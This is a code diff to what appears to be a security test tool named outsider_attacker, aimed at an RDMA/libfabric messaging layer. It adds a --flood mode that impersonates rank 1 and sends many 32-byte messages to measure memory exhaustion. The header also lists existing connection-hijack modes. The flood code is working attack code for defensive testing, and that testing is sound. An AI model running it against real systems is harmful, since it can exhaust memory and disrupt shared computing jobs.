@@ -21,6 +21,9 @@
 //   (takes rank 1's connection at rank 0 over; see namespace hijack)
 //        outsider_attacker --hold <ip> <rank 0's port> <rank 1's port> <seconds>
 //   (takes it over and holds it, silent; see hijack::hold)
+//        outsider_attacker --flood <ip> <port> <count>
+//   (count 32-byte messages as fast as the connection takes them: the
+//   memory a flood makes a rank hold, docs/security.md; measured by hand)
 #include <arpa/inet.h>
 #include <netinet/in.h>
 #include <rdma/fabric.h>
@@ -499,11 +502,44 @@ int hold(const char* ip, int port, int claimed, double seconds) {
 
 }  // namespace hijack
 
+// --flood: `count` messages of 32 bytes (a claimed rank 1, a short
+// message's header), up to 64 in flight, as fast as the connection takes
+// them; returns once all were sent.
+int flood(const char* ip, int port, long count) {
+  attacker a;
+  a.open(ip, port);
+  std::vector<char> m(32, 'F');
+  long posted = 0, done = 0;
+  const double end = now_s() + 240;
+  while (done < count && now_s() < end) {
+    while (posted < count && posted - done < 64) {
+      memcpy(a.buf.data() + 32 * (posted % 64), m.data(), m.size());
+      const ssize_t rc = fi_senddata(a.ep, a.buf.data() + 32 * (posted % 64), m.size(), a.desc,
+                                     uint64_t{1} << 32 | imm(k_short, 0, 1), a.victim, nullptr);
+      if (rc == -FI_EAGAIN) break;
+      if (rc) die("fi_senddata", static_cast<int>(rc));
+      ++posted;
+    }
+    fi_cq_data_entry e[64];
+    const ssize_t n = fi_cq_read(a.cq, e, 64);
+    if (n > 0) done += n;
+    if (n == -FI_EAVAIL) {
+      fi_cq_err_entry err{};
+      if (fi_cq_readerr(a.cq, &err, 0) == 1) ++done;
+    }
+  }
+  printf("attacker: flood: %ld of %ld messages sent\n", done, count);
+  a.close();
+  return done == count ? 0 : 1;
+}
+
 int main(int argc, char** argv) {
   if (argc == 5 && strcmp(argv[1], "--hijack") == 0)
     return hijack::run(argv[2], atoi(argv[3]), atoi(argv[4]));
   if (argc == 6 && strcmp(argv[1], "--hold") == 0)
     return hijack::hold(argv[2], atoi(argv[3]), atoi(argv[4]), atof(argv[5]));
+  if (argc == 5 && strcmp(argv[1], "--flood") == 0)
+    return flood(argv[2], atoi(argv[3]), atol(argv[4]));
   if (argc != 8) {
     fprintf(stderr, "usage: outsider_attacker <ip> <port> <secret> <target> <handle> <key> "
                     "<provider key>\n");
